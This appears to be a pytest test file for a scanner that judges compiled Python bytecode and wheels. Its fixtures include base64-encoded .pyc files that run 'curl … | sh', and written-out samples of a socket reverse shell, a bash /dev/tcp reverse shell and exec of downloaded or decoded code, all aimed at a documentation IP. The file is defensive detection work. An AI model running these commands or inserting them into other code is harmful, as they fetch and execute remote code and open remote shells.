# ruff: noqa: E501
"""Compiled Python: read as data in every version's layout, judged by what it names, never called safe."""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import marshal
from contextlib import suppress
from pathlib import Path
from types import CodeType

import pytest
from artifact_samples import codes, verdict, zipped
from hypothesis import given, settings
from hypothesis import strategies as st

import casemate
from casemate.detect.artifacts.sources.marshalled import CodeObject, NotMarshalled, read_compiled

# fmt: off
FETCHES = {  # import os; os.system("curl http://203.0.113.9/a | sh"), compiled by each version
    "3.7": "Qg0NCgAAAACQrgVrNgAAAOMAAAAAAAAAAAAAAAADAAAAQAAAAHMWAAAAZABkAWwAWgBlAKABZAKhAQEAZAFTACkD6QAAAABOeh5jdXJsIGh0dHA6Ly8yMDMuMC4xMTMuOS9hIHwgc2gpAtoCb3PaBnN5c3RlbakAcgQAAAByBAAAAPoEYy5wedoIPG1vZHVsZT4BAAAAcwIAAAAIAQ==",
    "3.8": "VQ0NCgAAAACQrgVrNgAAAOMAAAAAAAAAAAAAAAAAAAAAAwAAAEAAAABzFgAAAGQAZAFsAFoAZQCgAWQCoQEBAGQBUwApA+kAAAAATnoeY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNoKQLaAm9z2gZzeXN0ZW2pAHIEAAAAcgQAAAD6BGMucHnaCDxtb2R1bGU+AQAAAHMCAAAACAE=",
    "3.9": "YQ0NCgAAAACQrgVrNgAAAOMAAAAAAAAAAAAAAAAAAAAAAwAAAEAAAABzFgAAAGQAZAFsAFoAZQCgAWQCoQEBAGQBUwApA+kAAAAATnoeY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNoKQLaAm9z2gZzeXN0ZW2pAHIEAAAAcgQAAAD6BGMucHnaCDxtb2R1bGU+AQAAAHMCAAAACAE=",
    "3.10": "bw0NCgAAAACQrgVrNgAAAOMAAAAAAAAAAAAAAAAAAAAAAwAAAEAAAABzFgAAAGQAZAFsAFoAZQCgAWQCoQEBAGQBUwApA+kAAAAATnoeY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNoKQLaAm9z2gZzeXN0ZW2pAHIEAAAAcgQAAAD6BGMucHnaCDxtb2R1bGU+AQAAAHMEAAAACAAOAQ==",
    "3.11": "pw0NCgAAAACQrgVrNgAAAOMAAAAAAAAAAAAAAAADAAAAAAAAAPMuAAAAlwBkAGQBbABaAAIAZQBqAQAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAAEAZAFTACkD6QAAAABOeh5jdXJsIGh0dHA6Ly8yMDMuMC4xMTMuOS9hIHwgc2gpAtoCb3PaBnN5c3RlbakA8wAAAAD6BGMucHn6CDxtb2R1bGU+cggAAAABAAAAcycAAADwAwEBAdgACYAJgAmACdgACYAChAnQCirRACvUACvQACvQACvQACtyBgAAAA==",
    "3.12": "yw0NCgAAAACQrgVrNgAAAOMAAAAAAAAAAAAAAAADAAAAAAAAAPMwAAAAlwBkAGQBbABaAAIAZQBqAgAAAAAAAAAAAAAAAAAAAAAAAGQCqwEAAAAAAAABAHkBKQPpAAAAAE56HmN1cmwgaHR0cDovLzIwMy4wLjExMy45L2EgfCBzaCkC2gJvc9oGc3lzdGVtqQDzAAAAAPoEYy5wefoIPG1vZHVsZT5yCAAAAAEAAABzFwAAAPADAQEB2wAJ2AAJgAKHCYEJ0Aoq1QArcgYAAAA=",
    "3.13": "8w0NCgAAAACQrgVrNgAAAOMAAAAAAAAAAAAAAAADAAAAAAAAAPMwAAAAlQBTAFMBSwByAFwAUgIAAAAAAAAAAAAAAAAAAAAAAAAiAFMCNQEAAAAAAAAgAGcBKQPpAAAAAE56HmN1cmwgaHR0cDovLzIwMy4wLjExMy45L2EgfCBzaCkC2gJvc9oGc3lzdGVtqQDzAAAAANoEYy5wedoIPG1vZHVsZT5yCAAAAAEAAABzFQAAAPADAQEB2wAJ2AAChwmCCdAKKtUAK3IGAAAA",
}
# fmt: on
HEADER = importlib.util.MAGIC_NUMBER + bytes(12)
SOURCES = sorted(Path(casemate.__file__).parent.rglob("*.py"))[::12]


def compiled(source: str) -> bytes:
    """A ``.pyc`` of this version."""
    return HEADER + marshal.dumps(compile(source, "x.py", "exec"))


@pytest.mark.parametrize("version", FETCHES)
def test_what_runs_commands_is_malicious_in_every_version(version: str) -> None:
    found = verdict(base64.b64decode(FETCHES[version]), "pkg/__pycache__/x.pyc")
    assert found.verdict == "malicious"
    assert codes(found) == {"pyc.command", "pyc.not_followed"}


@pytest.mark.parametrize("path", SOURCES, ids=lambda path: path.name)
def test_code_objects_are_read_as_the_interpreter_reads_them(path: Path) -> None:
    code = compile(path.read_text(), "x.py", "exec")
    data = HEADER + marshal.dumps(code)
    module, end = read_compiled(data)
    assert end == len(data)
    assert told(module) == really(code)


def told(one: CodeObject) -> tuple:
    return one.name, one.names, [told(inner) for inner in one.inner]


def really(code: CodeType) -> tuple:
    return code.co_name, code.co_names, [really(part) for part in code.co_consts if isinstance(part, CodeType)]


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("import base64\nexec(base64.b64decode('cGFzcw=='))", "pyc.decoded_code"),
        ("from urllib.request import urlopen\nexec(urlopen('http://203.0.113.9').read())", "pyc.decoded_code"),
        ("import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))", "pyc.decoded_code"),
        ("import os, socket\ns = socket.socket()\ns.connect(('203.0.113.9', 1))\nos.dup2(s.fileno(), 0)\nos.system('sh')",
         "pyc.remote_shell"),
        ("import subprocess\nsubprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1'])", "pyc.command"),
    ],
)  # fmt: skip
def test_code_that_can_only_do_harm_is_malicious(source: str, code: str) -> None:
    found = verdict(compiled(source), "x.pyc")
    assert found.verdict == "malicious"
    assert code in codes(found)


def test_what_is_only_defined_is_less_and_nothing_is_safe() -> None:
    later = verdict(compiled("import os\ndef f():\n    os.system('curl http://203.0.113.9/a | sh')\n"), "x.pyc")
    assert (later.verdict, codes(later)) == ("suspicious", {"pyc.later_command", "pyc.not_followed"})
    called = verdict(compiled("import os\ndef f():\n    os.system('curl http://203.0.113.9/a | sh')\nf()\n"), "x.pyc")
    assert called.verdict == "malicious"
    plain = verdict(compiled("import math\nTAU = math.pi * 2\n"), "x.pyc")
    assert (plain.verdict, codes(plain)) == ("unscannable", {"pyc.not_followed"})
    assert verdict(compiled("x = 1"), "config.json").verdict == "malicious"


def test_a_wheel_with_machine_code_says_which_was_not_read() -> None:
    native = b"\x7fELF\x02" + bytes(60)
    digest = base64.urlsafe_b64encode(hashlib.sha256(native).digest()).rstrip(b"=").decode()
    record = f"x/_fast.so,sha256={digest},{len(native)}\nx-1.dist-info/WHEEL,,\nx-1.dist-info/RECORD,,\n".encode()
    wheel = zipped(
        ("x/_fast.so", native), ("x-1.dist-info/WHEEL", b"Wheel-Version: 1.0\n"), ("x-1.dist-info/RECORD", record)
    )
    found = verdict(wheel, "x-1-cp311-cp311-linux_x86_64.whl")
    assert found.verdict == "unscannable"
    assert codes(found) == {"native.code", "wheel.native"}
    assert any("x/_fast.so" in reason.text for reason in found.reasons if reason.code == "wheel.native")


@settings(max_examples=200)
@given(st.binary(max_size=200), st.integers(0, 400), st.sampled_from(sorted(FETCHES)))
def test_damage_is_told(new: bytes, at: int, version: str) -> None:
    data = base64.b64decode(FETCHES[version])
    at = 16 + at % (len(data) - 16)
    with suppress(NotMarshalled):
        read_compiled(data[:at] + new + data[at + len(new) :])
    assert verdict(data[:at], "x.pyc").verdict != "safe"
